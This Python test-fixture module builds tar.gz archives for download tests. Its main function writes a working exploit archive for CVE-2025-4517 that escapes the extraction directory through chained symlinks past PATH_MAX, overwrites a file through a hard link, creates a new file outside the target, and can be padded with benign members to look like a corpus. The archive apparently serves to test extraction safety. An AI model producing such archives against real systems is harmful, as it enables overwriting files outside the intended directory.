"""Tar archives for the download tests, hostile ones included."""

import io
import os
import tarfile


def tar_with(path, members):
    """Write the tar.gz `path` from (TarInfo, bytes or None) pairs."""
    with tarfile.open(path, "w:gz") as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)


def member(name, kind=tarfile.REGTYPE, link="", data=None):
    """A (TarInfo, bytes) pair for `tar_with`."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o777 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data or b"")
    return info, data


def symlink_chain_attack(archive, dest, extra=()):
    """Write a tar.gz that escapes `dest` through symlinks whose resolved path passes PATH_MAX
    (CVE-2025-4517): unpacked into `dest`, it overwrites dest/../flag through a hard link and
    creates dest/../newfile. `extra` members come first (to look like a corpus)."""
    steps = "abcdefghijklmnop"
    width = (os.pathconf(dest.parent, "PC_PATH_MAX") - len(str(dest)) - 1) // (len(steps) + 1)
    folder = "d" * width
    members, inside = list(extra), ""
    for step in steps:  # a -> ddd, ddd/b -> ddd, ...: short names that expand to a long path
        members += [member(inside + folder, tarfile.DIRTYPE), member(inside + step, tarfile.SYMTYPE, folder)]
        inside += folder + "/"
    deep = "/".join(steps) + "/" + "l" * 254  # expands past PATH_MAX, back to dest
    members += [member(deep, tarfile.SYMTYPE, "/".join([".."] * len(steps))),
                member("escape", tarfile.SYMTYPE, deep + "/.."),
                member("flaglink", tarfile.LNKTYPE, "escape/flag"),
                member("flaglink", data=b"overwrite"),
                member("escape/newfile", data=b"new")]
    tar_with(archive, members)
